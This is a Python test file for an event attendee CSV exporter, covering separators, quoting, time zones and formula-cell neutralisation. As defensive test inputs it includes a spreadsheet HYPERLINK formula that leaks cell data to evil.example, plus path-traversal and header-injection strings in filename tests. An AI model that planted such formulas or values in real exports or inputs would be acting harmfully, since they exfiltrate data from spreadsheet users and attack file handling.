"""The attendee CSV: byte-order mark, separators, quoting, local times, and cells that a
spreadsheet would otherwise run as formulas."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime
from types import SimpleNamespace
from uuid import uuid4

import pytest

from events.export import (
    BOM,
    AttendeeRow,
    CsvVariant,
    attendees_csv,
    export_filename,
    neutralise,
    rows_of,
)

WHEN = datetime(2027, 7, 1, 17, 5, tzinfo=UTC)  # 19:05 in Paris (summer time)


def row(name: str = "Ada Lovelace", **overrides: object) -> AttendeeRow:
    values: dict[str, object] = {
        "name": name,
        "email": "ada@example.org",
        "guests": 1,
        "status": "confirmed",
        "waitlist_position": None,
        "registered_at": WHEN,
        "opt_in": True,
    }
    values.update(overrides)
    return AttendeeRow(**values)  # type: ignore[arg-type]


def parse(data: bytes, variant: CsvVariant = CsvVariant.STANDARD) -> list[list[str]]:
    text = data.decode("utf-8")
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text[1:], newline=""), delimiter=variant.delimiter))


def test_standard_variant_has_a_bom_commas_and_crlf() -> None:
    data = attendees_csv([row()], zone="Europe/Paris")
    assert data.startswith(b"\xef\xbb\xbf")
    assert data.count(b"\r\n") == 2
    assert parse(data) == [
        ["Name", "E-mail", "Guests", "Status", "Waiting list position", "Registered at", "Opt-in"],
        ["Ada Lovelace", "ada@example.org", "1", "confirmed", "", "2027-07-01 19:05", "yes"],
    ]


def test_the_french_excel_variant_uses_semicolons() -> None:
    data = attendees_csv([row("Dupont, Marie")], zone="Europe/Paris", variant=CsvVariant.EXCEL_FR)
    lines = data.decode("utf-8").lstrip(BOM).split("\r\n")
    assert lines[0] == "Name;E-mail;Guests;Status;Waiting list position;Registered at;Opt-in"
    # A comma is no separator here: no quoting needed.
    assert lines[1].startswith("Dupont, Marie;ada@example.org;1;")
    assert parse(data, CsvVariant.EXCEL_FR)[1][0] == "Dupont, Marie"


def test_a_semicolon_in_the_french_variant_and_a_comma_in_the_standard_are_quoted() -> None:
    fr = attendees_csv([row("A; B")], zone="UTC", variant=CsvVariant.EXCEL_FR)
    assert b'"A; B"' in fr
    assert parse(fr, CsvVariant.EXCEL_FR)[1][0] == "A; B"
    standard = attendees_csv([row("A, B")], zone="UTC")
    assert b'"A, B"' in standard
    assert parse(standard)[1][0] == "A, B"


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?leak="&A1, "click")',
        "=1+1",
        "+33 6 12 34 56 78",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_formula_cells_are_neutralised(hostile: str) -> None:
    data = attendees_csv([row(hostile, email=hostile)], zone="UTC")
    cells = parse(data)[1]
    assert cells[0] == "'" + hostile
    assert cells[1] == "'" + hostile


def test_harmless_cells_are_untouched() -> None:
    for text in ("Ada", "a=b", "Zoé @home", " =1", "1-2", ""):
        assert neutralise(text) == text


def test_the_headers_are_neutralised_too() -> None:
    data = attendees_csv([], zone="UTC", headers=("=evil", "ok"))
    assert parse(data) == [["'=evil", "ok"]]


def test_quotes_and_line_breaks_inside_a_cell_are_quoted() -> None:
    name = 'Jean "Jeannot"\nDupont'
    data = attendees_csv([row(name)], zone="UTC")
    assert b'"Jean ""Jeannot""\nDupont"' in data
    assert parse(data)[1][0] == name


def test_unicode_survives_the_round_trip() -> None:
    names = ["Zoé Çelik", "Łukasz Wąsik", "李小龍", "Nguyễn Thị Ánh", "😀 Smile"]
    data = attendees_csv([row(n) for n in names], zone="UTC", variant=CsvVariant.EXCEL_FR)
    assert [cells[0] for cells in parse(data, CsvVariant.EXCEL_FR)[1:]] == names


def test_times_are_in_the_events_zone() -> None:
    winter = datetime(2027, 1, 10, 18, 0, tzinfo=UTC)
    data = attendees_csv([row(registered_at=winter)], zone="Europe/Paris")
    assert parse(data)[1][5] == "2027-01-10 19:00"
    data = attendees_csv([row(registered_at=winter)], zone="America/New_York")
    assert parse(data)[1][5] == "2027-01-10 13:00"


def test_labels_translate_status_and_opt_in() -> None:
    data = attendees_csv(
        [row(status="waitlisted", waitlist_position=2, opt_in=False)],
        zone="UTC",
        headers=("Nom", "Courriel", "Invités", "Statut", "Rang", "Inscrit le", "Accord"),
        status_labels={"waitlisted": "Liste d'attente"},
        yes_no=("oui", "non"),
    )
    assert parse(data) == [
        ["Nom", "Courriel", "Invités", "Statut", "Rang", "Inscrit le", "Accord"],
        ["Ada Lovelace", "ada@example.org", "1", "Liste d'attente", "2", "2027-07-01 17:05", "non"],
    ]


def test_variants_are_parsed_leniently() -> None:
    assert CsvVariant.parse("excel-fr") is CsvVariant.EXCEL_FR
    assert CsvVariant.parse(" EXCEL-FR ") is CsvVariant.EXCEL_FR
    for other in ("", None, "standard", "xlsx", "../../etc"):
        assert CsvVariant.parse(other) is CsvVariant.STANDARD


def test_rows_come_from_registrations_with_ranks() -> None:
    waiting_id, confirmed_id = uuid4(), uuid4()
    registrations = [
        SimpleNamespace(
            id=confirmed_id,
            name="A",
            email="a@example.org",
            guests=0,
            status=SimpleNamespace(value="confirmed"),
            created_at=WHEN,
            opt_in=False,
            ticket_code="SECRET",
        ),
        SimpleNamespace(
            id=waiting_id,
            name="B",
            email="b@example.org",
            guests=2,
            status=SimpleNamespace(value="waitlisted"),
            created_at=WHEN,
            opt_in=True,
            ticket_code=None,
        ),
    ]
    rows = rows_of(registrations, {waiting_id: 1})
    assert [(r.name, r.status, r.waitlist_position) for r in rows] == [
        ("A", "confirmed", None),
        ("B", "waitlisted", 1),
    ]
    assert b"SECRET" not in attendees_csv(rows, zone="UTC")


@pytest.mark.parametrize(
    ("slug", "variant", "expected"),
    [
        ("pitch-night-2027-03-04", CsvVariant.STANDARD, "attendees-pitch-night-2027-03-04.csv"),
        ("pitch-night", CsvVariant.EXCEL_FR, "attendees-pitch-night-excel-fr.csv"),
        ('a"b;\r\nc/../d', CsvVariant.STANDARD, "attendees-a-b-c-d.csv"),
        ("", CsvVariant.STANDARD, "attendees-event.csv"),
    ],
)
def test_file_names_are_safe(slug: str, variant: CsvVariant, expected: str) -> None:
    assert export_filename(slug, variant) == expected
